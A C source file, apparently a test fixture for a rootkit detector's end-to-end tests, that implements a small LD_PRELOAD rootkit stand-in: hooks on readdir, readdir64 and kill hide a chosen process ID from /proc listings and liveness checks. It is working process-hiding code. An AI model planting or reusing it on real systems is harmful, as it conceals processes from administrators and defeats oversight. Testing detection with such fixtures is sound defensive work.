/*
 * hidepid.c — a test stand-in for a userland rootkit (built by the e2e
 * tests with the system cc, never installed): preloaded, it hides the pid
 * in the environment variable RS_HIDE_PID from readdir/readdir64 of any
 * directory (so from /proc listings) and makes kill(pid, 0) fail with
 * ESRCH, the way libprocesshider and Azazel do. Inert otherwise.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <errno.h>
#include <signal.h>
#include <stdlib.h>
#include <string.h>
#include <sys/types.h>

static int hidden(const char *name)
{
	const char *pid = getenv("RS_HIDE_PID");
	return pid && *pid && strcmp(name, pid) == 0;
}

struct dirent *readdir(DIR *d)
{
	static struct dirent *(*real)(DIR *);
	if (!real)
		real = (struct dirent * (*)(DIR *)) dlsym(RTLD_NEXT, "readdir");
	struct dirent *e;
	while ((e = real(d)) != NULL && hidden(e->d_name))
		;
	return e;
}

struct dirent64 *readdir64(DIR *d)
{
	static struct dirent64 *(*real)(DIR *);
	if (!real)
		real = (struct dirent64 * (*)(DIR *)) dlsym(RTLD_NEXT, "readdir64");
	struct dirent64 *e;
	while ((e = real(d)) != NULL && hidden(e->d_name))
		;
	return e;
}

int kill(pid_t pid, int sig)
{
	static int (*real)(pid_t, int);
	const char *h = getenv("RS_HIDE_PID");
	if (h && atol(h) == (long)pid) {
		errno = ESRCH;
		return -1;
	}
	if (!real)
		real = (int (*)(pid_t, int))dlsym(RTLD_NEXT, "kill");
	return real(pid, sig);
}
